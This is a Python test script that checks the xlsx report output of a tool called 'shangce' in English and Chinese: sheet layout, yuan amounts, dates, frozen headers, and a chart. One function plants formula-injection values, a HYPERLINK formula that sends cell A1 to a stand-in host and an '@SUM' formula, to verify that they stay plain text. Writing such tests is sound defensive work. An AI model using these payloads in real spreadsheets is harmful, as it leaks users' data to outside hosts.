#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Reads `shangce --report --format xlsx` with a real reader (openpyxl).

  check-xlsx.py SHANGCE PROFILE...

For every profile in English and Chinese: the workbook opens, has its four
sheets, the Summary totals are the JSON report's, amounts are number cells
in yuan, dates are dates, header rows are frozen, Chinese reports have
Chinese headers, text that looks like a formula stays text, and the
Summary sheet has a native chart. TAP output; skips without openpyxl.
"""

import datetime
import json
import os
import subprocess
import sys
import tempfile
import zipfile

try:
    import openpyxl
except ImportError:
    print('1..0 # SKIP python3-openpyxl is not installed')
    sys.exit(0)

SHEETS = {'en': ['Summary', 'Measures', 'Assumptions', 'Sources'],
          'zh_CN': ['概要', '举措', '假设', '来源']}
n = 0
failed = 0


def ok(cond, what):
    global n, failed
    n += 1
    print(('ok' if cond else 'not ok') + ' %d - %s' % (n, what))
    if not cond:
        failed += 1


def has_han(text):
    return any('\u4e00' <= ch <= '\u9fff' for ch in str(text or ''))


def run(args):
    return subprocess.run(args, capture_output=True)


def check(shangce, profile, lang, tmp):
    name = '%s [%s]' % (os.path.basename(profile), lang)
    out = os.path.join(tmp, os.path.basename(profile) + '-' + lang + '.xlsx')
    r = run([shangce, '--report', '--format', 'xlsx', '-o', out, '--profile', profile, '--lang', lang])
    ok(r.returncode == 0 and os.path.exists(out), name + ': written (%s)' % r.stderr.decode()[:200])
    if r.returncode != 0:
        return
    ok(os.stat(out).st_mode & 0o077 == 0, name + ': private (0600)')
    report = json.loads(run([shangce, '--report', '--format', 'json', '--profile', profile,
                             '--lang', lang]).stdout)
    with zipfile.ZipFile(out) as z:
        names = z.namelist()
        ok('xl/charts/chart1.xml' in names, name + ': the workbook holds a native chart')
        chart = z.read('xl/charts/chart1.xml').decode() if 'xl/charts/chart1.xml' in names else ''
        ok('<c:barChart>' in chart and 'stacked' in chart, name + ': a stacked column chart')
    wb = openpyxl.load_workbook(out)
    ok(wb.sheetnames == SHEETS[lang], name + ': sheets %s' % wb.sheetnames)
    summary = wb[wb.sheetnames[0]]
    ok(len(summary._charts) > 0, name + ': the Summary sheet has a chart')
    # The header row of the platform table: the row whose first cell names
    # the platform column.
    head = None
    for row in summary.iter_rows(min_row=1, max_row=20):
        if row[0].value in ('Platform', '平台'):
            head = row[0].row
            break
    ok(head is not None, name + ': Summary has a platform table')
    if head is None:
        return
    ok(summary.freeze_panes == 'A%d' % (head + 1), name + ': Summary header frozen (%s)' % summary.freeze_panes)
    heads = [c.value for c in summary[head]]
    if lang == 'zh_CN':
        ok(all(has_han(h) for h in heads if h), name + ': Chinese headers %s' % heads[:5])
    else:
        ok(not any(has_han(h) for h in heads if h), name + ': English headers')
    dates = [c for row in summary.iter_rows(min_row=1, max_row=head - 1) for c in row
             if isinstance(c.value, datetime.datetime)]
    ok(len(dates) >= 2 and dates[0].value.date().isoformat() == report['profile']['as_of'],
       name + ': evaluation date is a date cell')
    platforms = report['platforms']
    rows = list(summary.iter_rows(min_row=head + 1, max_row=head + len(platforms)))
    ok([r[0].value for r in rows] == [p['name'] for p in platforms], name + ': one row per platform')
    good = True
    for r, p in zip(rows, platforms):
        t = p['totals']
        kept = t['fee-reduction'] + t['cash'] + t['cash-flow']
        tied = t['ad-credit'] + t['coupon'] + t['traffic-value']
        for cell, want in ((r[1], t['total-value']), (r[2], kept), (r[3], tied), (r[4], p['score']),
                           (r[5], p['expected_totals']['total-value'])):
            if not isinstance(cell.value, (int, float)) or abs(cell.value - want) > 0.011:
                print('# %s %s: %r != %r' % (p['platform'], cell.coordinate, cell.value, want))
                good = False
            if '¥' not in cell.number_format or '0.00' not in cell.number_format:
                print('# %s: number format %r' % (cell.coordinate, cell.number_format))
                good = False
    ok(good, name + ': Summary totals equal the JSON report, as yuan numbers')
    for title in wb.sheetnames[1:]:
        ws = wb[title]
        ok(ws.freeze_panes == 'A2', name + ': %s header frozen' % title)
        first = [c.value for c in ws[1] if c.value]
        ok(first and all(has_han(h) for h in first) == (lang == 'zh_CN'), name + ': %s headers %s' % (title, first[:3]))
    measures = wb[wb.sheetnames[1]]
    ok(measures.max_row - 1 == len(report['measures']), name + ': one row per measure')
    numbers = [c for row in measures.iter_rows(min_row=2) for c in row[4:13] if c.value is not None]
    ok(numbers and all(isinstance(c.value, (int, float)) for c in numbers), name + ': measure amounts are numbers')
    assumptions = wb[wb.sheetnames[2]]
    ok(assumptions.max_row - 1 == len(report['assumptions']), name + ': one row per assumption')
    formulas = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row
                if c.data_type == 'f']
    ok(not formulas, name + ': no formula in any cell %s' % formulas[:3])
    widths = [d.width for d in summary.column_dimensions.values() if d.width]
    ok(widths, name + ': column widths set')


def hostile(shangce, profile, tmp):
    """Names that a spreadsheet would run as formulas stay text."""
    here = os.path.dirname(os.path.abspath(__file__))
    with open(os.path.join(here, '..', 'data', 'engine', 'engine-basic.xml'), encoding='utf-8') as f:
        xml = f.read()
    xml = xml.replace('Alpha test program', '=HYPERLINK(&quot;http://x.example/&quot;&amp;A1,&quot;x&quot;)', 1)
    xml = xml.replace('First-sale cash', '@SUM(A1:A9)', 1)
    programs = os.path.join(tmp, 'hostile.xml')
    with open(programs, 'w', encoding='utf-8') as f:
        f.write(xml)
    out = os.path.join(tmp, 'hostile.xlsx')
    r = run([shangce, '--report', '--format', 'xlsx', '-o', out, '--profile', profile,
             '--programs', programs, '--lang', 'en'])
    ok(r.returncode == 0, 'hostile names: written (%s)' % r.stderr.decode()[:200])
    if r.returncode != 0:
        return
    wb = openpyxl.load_workbook(out)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and ('HYPERLINK' in c.value or '@SUM' in c.value)]
    ok(any('HYPERLINK' in c.value for c in cells) and any('@SUM' in c.value for c in cells),
       'hostile names: both reach the workbook')
    ok(cells and all(c.data_type == 's' for c in cells), 'hostile names: written as text, never a formula')


def main():
    shangce = sys.argv[1]
    with tempfile.TemporaryDirectory() as tmp:
        # Binary to a terminal or a pipe is refused.
        r = run([shangce, '--report', '--format', 'xlsx', '--profile', sys.argv[2]])
        ok(r.returncode == 2 and r.stdout == b'', 'xlsx without -o is refused with status 2')
        # Nor to a terminal named by -o.
        master, slave = os.openpty()
        r = run([shangce, '--report', '--format', 'xlsx', '-o', os.ttyname(slave), '--profile', sys.argv[2]])
        os.set_blocking(master, False)
        try:
            written = os.read(master, 4096)
        except BlockingIOError:
            written = b''
        os.close(master)
        os.close(slave)
        ok(r.returncode == 2 and written == b'', 'xlsx to a terminal is refused with status 2')
        for profile in sys.argv[2:]:
            for lang in ('en', 'zh_CN'):
                check(shangce, profile, lang, tmp)
        hostile(shangce, sys.argv[2], tmp)
    print('1..%d' % n)
    sys.exit(1 if failed else 0)


main()
